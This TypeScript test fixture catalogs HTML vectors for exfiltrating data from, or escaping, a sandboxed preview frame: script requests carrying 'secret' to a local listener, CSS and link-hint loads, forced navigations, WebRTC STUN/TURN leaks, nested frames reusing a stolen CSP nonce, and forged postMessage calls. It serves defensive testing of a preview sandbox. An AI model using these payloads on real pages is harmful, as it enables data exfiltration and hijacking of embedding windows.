/**
 * Ways out of a preview, by family, as a model could write them. Each page tries one; `at` names the listeners that must hear nothing.
 * A script that runs at all says so to the window around it.
 */
export interface Target {
  /** `http://127.0.0.1:port` or its https twin. */
  readonly url: string;
  /** `127.0.0.1:port` of the same listener. */
  readonly host: string;
  readonly udpPort: number;
  /** The nonce of the embedding page, for the vectors that assume it stolen. */
  readonly nonce: string;
}

export interface Vector {
  readonly family: 'mutation' | 'style' | 'script' | 'passive' | 'navigation' | 'hint' | 'rtc' | 'nesting' | 'effect';
  readonly name: string;
  /** Clicks `#go` once it is there. */
  readonly click?: true;
  /** In a plain frame it takes the whole window with it. */
  readonly alone?: true;
  html(at: Target): string;
}

const RAN = `parent.postMessage({executed:1},'*');`;
const run = (code: string): string => `<!doctype html><body><p>drawn</p><script>${RAN}try{${code}}catch(e){e}</script></body>`;
const body = (markup: string): string => `<!doctype html><body><p>drawn</p>${markup}</body>`;
const css = (rules: string): string => `<!doctype html><head><style>${rules}</style></head><body><p>drawn</p></body>`;
const link = (attributes: string): string => `<!doctype html><head><link ${attributes}></head><body><p>drawn</p></body>`;
/** Opens a connection to a STUN server; \`RTC\` names the constructor. */
const stun = (port: number, rtc = 'RTCPeerConnection'): string =>
  `const c=new ${rtc}({iceServers:[{urls:'stun:127.0.0.1:${port}'}]});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o));`;
const nested = (markup: string): string =>
  `const f=document.createElement('iframe');f.srcdoc=${JSON.stringify(markup)};document.body.append(f);`;
const closing = '</scr"+"ipt>';

export const SIMPLE_VECTORS: readonly Vector[] = [
  { family: 'script', name: 'fetch', html: ({ url }) => run(`fetch('${url}/fetch?secret',{mode:'no-cors'})`) },
  {
    family: 'script',
    name: 'XMLHttpRequest',
    html: ({ url }) => run(`const x=new XMLHttpRequest();x.open('GET','${url}/xhr');x.send()`),
  },
  { family: 'script', name: 'beacon', html: ({ url }) => run(`navigator.sendBeacon('${url}/beacon','secret')`) },
  { family: 'script', name: 'WebSocket', html: ({ url }) => run(`new WebSocket('${url.replace('http', 'ws')}/ws')`) },
  { family: 'script', name: 'EventSource', html: ({ url }) => run(`new EventSource('${url}/events')`) },
  { family: 'script', name: 'WebTransport', html: ({ udpPort }) => run(`new WebTransport('https://127.0.0.1:${udpPort}/wt')`) },
  { family: 'script', name: 'image object', html: ({ url }) => run(`new Image().src='${url}/image?secret'`) },
  { family: 'script', name: 'audio object', html: ({ url }) => run(`new Audio('${url}/audio').play().catch(()=>0)`) },
  {
    family: 'script',
    name: 'worker',
    html: ({ url }) => run(`new Worker(URL.createObjectURL(new Blob(["fetch('${url}/worker',{mode:'no-cors'})"])))`),
  },
  { family: 'script', name: 'dynamic import', html: ({ url }) => run(`import('${url}/module.js').catch(()=>0)`) },
  { family: 'script', name: 'fetchLater', html: ({ url }) => run(`fetchLater('${url}/later',{activateAfter:0})`) },
  {
    family: 'script',
    name: 'font face',
    html: ({ url }) => run(`new FontFace('x',"url(${url}/font)").load().catch(()=>0)`),
  },
  { family: 'script', name: 'style by CSSOM', html: ({ url }) => run(`document.body.style.background="url(${url}/cssom)"`) },
  { family: 'script', name: 'inner HTML', html: ({ url }) => run(`document.body.innerHTML="<img src='${url}/inner'>"`) },
  {
    family: 'script',
    name: 'handler',
    html: ({ url }) => body(`<img src="data:," onerror="${RAN}fetch('${url}/handler',{mode:'no-cors'})">`),
  },

  { family: 'passive', name: 'img', html: ({ url }) => body(`<img src="${url}/img">`) },
  { family: 'passive', name: 'picture', html: ({ url }) => body(`<picture><source srcset="${url}/source"><img></picture>`) },
  { family: 'passive', name: 'img srcset', html: ({ url }) => body(`<img srcset="${url}/set 1x">`) },
  { family: 'passive', name: 'CSS background', html: ({ url }) => css(`body{background:url(${url}/bg)}`) },
  { family: 'passive', name: 'escaped url()', html: ({ url }) => css(`body{background:\\75 r\\6c("${url}/escaped")}`) },
  { family: 'passive', name: 'image-set', html: ({ url }) => css(`body{background:image-set("${url}/set" 1x)}`) },
  { family: 'passive', name: 'url in a variable', html: ({ url }) => css(`body{--a:url(${url}/var);background:var(--a)}`) },
  { family: 'passive', name: 'style attribute', html: ({ url }) => body(`<p style="background:url('${url}/style')">x`) },
  { family: 'passive', name: '@import', html: ({ url }) => css(`@import "${url}/import.css";`) },
  { family: 'passive', name: '@import url', html: ({ url }) => css(`@\\69mport url(${url}/import.css) screen;`) },
  {
    family: 'passive',
    name: 'font',
    html: ({ url }) => css(`@font-face{font-family:x;src:url(${url}/font)}body{font-family:x}`),
  },
  { family: 'passive', name: 'style sheet', html: ({ url }) => link(`rel="stylesheet" href="${url}/style.css"`) },
  { family: 'passive', name: 'script', html: ({ url }) => body(`<script src="${url}/script.js"></script>`) },
  { family: 'passive', name: 'module', html: ({ url }) => body(`<script type="module" src="${url}/module.js"></script>`) },
  { family: 'passive', name: 'video', html: ({ url }) => body(`<video src="${url}/video.mp4" autoplay muted></video>`) },
  { family: 'passive', name: 'poster', html: ({ url }) => body(`<video poster="${url}/poster"></video>`) },
  {
    family: 'passive',
    name: 'track',
    html: ({ url }) =>
      body(
        `<video autoplay muted src="data:video/mp4,"><track default src="${url}/track"></video><audio src="${url}/audio.mp3" autoplay></audio>`,
      ),
  },
  { family: 'passive', name: 'object', html: ({ url }) => body(`<object data="${url}/object"></object>`) },
  { family: 'passive', name: 'embed', html: ({ url }) => body(`<embed src="${url}/embed">`) },
  { family: 'passive', name: 'iframe', html: ({ url }) => body(`<iframe src="${url}/iframe"></iframe>`) },
  { family: 'passive', name: 'frameset', html: ({ url }) => `<frameset><frame src="${url}/frame"></frameset>` },
  { family: 'passive', name: 'SVG use', html: ({ url }) => body(`<svg><use href="${url}/use.svg#a"/></svg>`) },
  {
    family: 'passive',
    name: 'SVG image',
    html: ({ url }) => body(`<svg><image href="${url}/svgimage"/><image xlink:href="${url}/x"/></svg>`),
  },
  {
    family: 'passive',
    name: 'SVG filter',
    html: ({ url }) =>
      body(`<svg><filter id="f"><feImage href="${url}/fe"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`),
  },
  { family: 'passive', name: 'input image', html: ({ url }) => body(`<input type="image" src="${url}/input">`) },
  { family: 'passive', name: 'background attribute', html: ({ url }) => `<body background="${url}/background">` },
  { family: 'passive', name: 'manifest', html: ({ url }) => link(`rel="manifest" href="${url}/manifest.json"`) },
  { family: 'passive', name: 'icon', html: ({ url }) => link(`rel="icon" href="${url}/icon.png"`) },
  {
    family: 'passive',
    name: 'policy report',
    html: ({ url }) =>
      `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${url}/report"><body><img src="${url}/reported">`,
  },

  {
    family: 'navigation',
    name: 'meta refresh',
    html: ({ url }) => `<meta http-equiv="refresh" content="0;url=${url}/refresh?secret"><body>x`,
  },
  { family: 'navigation', name: 'self', html: ({ url }) => run(`location='${url}/self?secret'`) },
  { family: 'navigation', name: 'top', alone: true, html: ({ url }) => run(`top.location='${url}/top?secret'`) },
  { family: 'navigation', name: 'parent', alone: true, html: ({ url }) => run(`parent.location.href='${url}/parent?secret'`) },
  { family: 'navigation', name: 'link', click: true, html: ({ url }) => body(`<a id="go" href="${url}/link?secret">go</a>`) },
  {
    family: 'navigation',
    name: 'link to top',
    alone: true,
    click: true,
    html: ({ url }) => body(`<a id="go" target="_top" href="${url}/top">go</a>`),
  },
  {
    family: 'navigation',
    name: 'link to a new window',
    click: true,
    html: ({ url }) => body(`<a id="go" target="_blank" href="${url}/blank">go</a>`),
  },
  {
    family: 'navigation',
    name: 'SVG link',
    click: true,
    html: ({ url }) =>
      body(`<svg width="99" height="99"><a href="${url}/svglink"><rect id="go" width="99" height="99"/></a></svg>`),
  },
  { family: 'navigation', name: 'ping', click: true, html: ({ url }) => body(`<a id="go" href="#x" ping="${url}/ping">go</a>`) },
  {
    family: 'navigation',
    name: 'link by script',
    click: true,
    html: ({ url }) =>
      body(
        `<p id="go">go</p><script>${RAN}document.getElementById('go').onclick=()=>{const a=document.createElement('a');a.href='${url}/made?secret';a.dispatchEvent(new MouseEvent('click'))}</script>`,
      ),
  },
  { family: 'navigation', name: 'window.open', html: ({ url }) => run(`window.open('${url}/open')`) },
  {
    family: 'navigation',
    name: 'form',
    click: true,
    html: ({ url }) => body(`<form action="${url}/form"><input name="a" value="secret"><button id="go">go</button></form>`),
  },
  {
    family: 'navigation',
    name: 'form to top',
    alone: true,
    click: true,
    html: ({ url }) => body(`<form action="${url}/form" method="post" target="_top"><button id="go">go</button></form>`),
  },
  {
    family: 'navigation',
    name: 'button with an action',
    click: true,
    html: ({ url }) => body(`<form><button id="go" formaction="${url}/formaction">go</button></form>`),
  },
  {
    family: 'navigation',
    name: 'form by script',
    html: ({ url }) => run(`const f=document.createElement('form');f.action='${url}/submit';document.body.append(f);f.submit()`),
  },
  { family: 'navigation', name: 'data address', html: ({ url }) => run(`location='data:text/html,<img src=${url}/data>'`) },

  { family: 'hint', name: 'dns-prefetch', html: ({ url }) => link(`rel="dns-prefetch" href="${url}"`) },
  { family: 'hint', name: 'preconnect', html: ({ url }) => link(`rel="preconnect" href="${url}"`) },
  { family: 'hint', name: 'prefetch', html: ({ url }) => link(`rel="prefetch" href="${url}/prefetch"`) },
  { family: 'hint', name: 'preload', html: ({ url }) => link(`rel="preload" as="image" href="${url}/preload"`) },
  { family: 'hint', name: 'modulepreload', html: ({ url }) => link(`rel="modulepreload" href="${url}/preload.js"`) },
  {
    family: 'hint',
    name: 'speculation rules',
    html: ({ url }) =>
      body(
        `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url}/speculation"]}],"prerender":[{"source":"list","urls":["${url}/prerender"]}]}</script>`,
      ),
  },
  { family: 'hint', name: 'base', html: ({ url }) => `<base href="${url}/"><body><img src="based">` },
  {
    family: 'hint',
    name: 'preconnect by script',
    html: ({ url }) => run(`const l=document.createElement('link');l.rel='preconnect';l.href='${url}';document.head.append(l)`),
  },
  {
    family: 'hint',
    name: 'prefetch by script',
    html: ({ url }) =>
      run(`const l=document.createElement('link');l.rel='prefetch';l.href='${url}/prefetched?secret';document.head.append(l)`),
  },

  { family: 'rtc', name: 'STUN', html: ({ udpPort }) => run(stun(udpPort)) },
  { family: 'rtc', name: 'STUN by its old name', html: ({ udpPort }) => run(stun(udpPort, 'webkitRTCPeerConnection')) },
  {
    family: 'rtc',
    name: 'TURN over TCP',
    html: ({ host }) =>
      run(
        `const c=new RTCPeerConnection({iceServers:[{urls:'turn:${host}?transport=tcp',username:'secret',credential:'x'}]});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))`,
      ),
  },
  {
    family: 'rtc',
    name: 'from an empty frame',
    html: ({ udpPort }) =>
      run(
        `const f=document.createElement('iframe');document.body.append(f);${stun(udpPort, 'f.contentWindow.RTCPeerConnection')}`,
      ),
  },

  {
    family: 'nesting',
    name: 'srcdoc with an image',
    html: ({ url }) => body(`<iframe srcdoc="<img src='${url}/nested'>"></iframe>`),
  },
  {
    family: 'nesting',
    name: 'srcdoc by script',
    html: ({ url }) => run(nested(`<img src='${url}/nested'><meta http-equiv="refresh" content="0;url=${url}/nestedrefresh">`)),
  },
  {
    family: 'nesting',
    name: 'frame by script',
    html: ({ url }) => run(`const f=document.createElement('iframe');f.src='${url}/frame?secret';document.body.append(f)`),
  },
  {
    family: 'nesting',
    name: 'blob frame',
    html: ({ url }) =>
      run(
        `const f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob(["<img src='${url}/blob'>"],{type:'text/html'}));document.body.append(f)`,
      ),
  },
  {
    family: 'nesting',
    name: 'javascript frame',
    html: ({ url }) => body(`<iframe src="javascript:fetch('${url}/js',{mode:'no-cors'})"></iframe>`),
  },
  {
    family: 'nesting',
    name: 'RTC in a nested frame with a stolen nonce',
    html: ({ udpPort, nonce }) =>
      run(
        nested('').replace(
          'f.srcdoc=""',
          `f.srcdoc="<script nonce='${nonce}'>${stun(udpPort).replaceAll('"', '\\"')}${closing}"`,
        ),
      ),
  },
  {
    family: 'nesting',
    name: 'a copy of itself with a stolen nonce',
    html: ({ udpPort, nonce }) =>
      run(
        `const own=document.currentScript.textContent;${stun(udpPort)}
        `
          .replace('const own', `if(parent===top){const own`)
          .replace(
            ';const c',
            `;const f=document.createElement('iframe');f.srcdoc="<body><script nonce='${nonce}'>"+own+"${closing}";document.body.append(f)}const c`,
          ),
      ),
  },

  {
    family: 'effect',
    name: 'parent document',
    alone: true,
    html: () => run(`parent.document.title='taken';parent.document.body.innerHTML=''`),
  },
  {
    family: 'effect',
    name: 'storage',
    html: () => run(`localStorage.setItem('taken','1');document.cookie='taken=1';parent.postMessage({taken:1},'*')`),
  },
  { family: 'effect', name: 'dialog', alone: true, html: () => run(`alert('taken');print()`) },
  {
    family: 'effect',
    name: 'forged message',
    html: () =>
      run(
        `parent.postMessage({type:'context',taken:1},'*');top.postMessage({type:'snapshot',taken:1},'*');parent.postMessage({preview:'guess'},'*',[new MessageChannel().port1])`,
      ),
  },
  {
    family: 'effect',
    name: 'forged message of a grandchild',
    html: ({ nonce }) =>
      run(
        nested('').replace(
          'f.srcdoc=""',
          `f.srcdoc="<script nonce='${nonce}'>top.postMessage({type:'snapshot',taken:1},'*');parent.parent.postMessage({type:'events',taken:1},'*')${closing}"`,
        ),
      ),
  },
];
